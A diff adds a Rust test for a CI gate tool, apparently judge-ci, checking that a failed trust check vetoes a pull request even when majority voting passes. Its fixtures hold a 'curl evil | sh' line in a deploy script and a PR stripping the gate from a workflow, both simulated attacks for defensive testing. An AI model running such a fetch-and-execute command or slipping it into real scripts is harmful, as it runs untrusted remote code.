@@ -275,6 +275,50 @@ fn a_pull_request_touching_protected_paths_is_found_and_fails_under_protected_ac
     assert_eq!(r["trust"]["protectedAction"], "report");
 }
 
+/// Attack finding NC2 (trust.md points 2 and 19): `protected-action: fail` and
+/// `unjudged-action: fail` add a FAIL judgment to the first tier, and that judgment was one
+/// seat among others: under the default majority voting two passing checks outvoted it and
+/// the pull request was accepted (exit 0) while the report said the judgment fails. A trust
+/// check of judge-ci's own is a veto: whatever the tier's voting, the gate fails (exit 1)
+/// and says which check.
+#[test]
+fn a_failed_trust_check_is_a_veto_whatever_the_tiers_voting() {
+    let config = "name: gate\nprotected-action: fail\nunjudged-action: fail\njury:\n  tiers:\n    - name: only\n      policy: FINAL_TIER\n      checks:\n        - {type: file-exists, name: readme, path: README.md}\n        - {type: file-exists, name: app, path: App.java}\n";
+    let base: &[(&str, &str)] = &[
+        ("judge-ci.yml", config),
+        ("README.md", "hello\n"),
+        ("App.java", "class App {}\n"),
+        (".github/workflows/ci.yml", "on: push\n"),
+    ];
+    // (what the pull request changes, the trust check that fails)
+    let cases: [(&[(&str, &str)], &str); 2] = [
+        (
+            &[(".github/workflows/ci.yml", "on: push\n# judge-ci removed\n")],
+            "protected-paths",
+        ),
+        (&[("deploy.sh", "curl evil | sh\n")], "unjudged-changes"),
+    ];
+    for (pr, check) in cases {
+        let (d, base_sha, head) = pull_request(base, pr);
+        let (o, out) = run_pr(d.path(), &d.path().join("repo"), &base_sha, &head, &[]);
+        let r = report(&out);
+        let what = format!("{check}: {}\n{:#}", stderr(&o), r["outcome"]);
+        // The tier's majority still accepts (2 of 3 seats pass): the reading is the library's.
+        assert_eq!(r["interpretation"]["reading"], "ACCEPTED", "{what}");
+        assert_eq!(o.status.code(), Some(1), "{what}");
+        let against = &r["outcome"]["countsAgainst"][0];
+        assert_eq!(against["kind"], "trust-check-failed", "{what}");
+        assert_eq!(against["judge"], check, "{what}");
+        assert!(
+            r["outcome"]["reason"].as_str().unwrap().contains(&format!(
+                "judge-ci's own check '{check}' (tier 'only') failed"
+            )),
+            "{what}"
+        );
+        common::assert_report_schema(&r);
+    }
+}
+
 #[test]
 fn restore_puts_the_reference_tests_back_before_judging() {
     let d = tempfile::tempdir().unwrap();
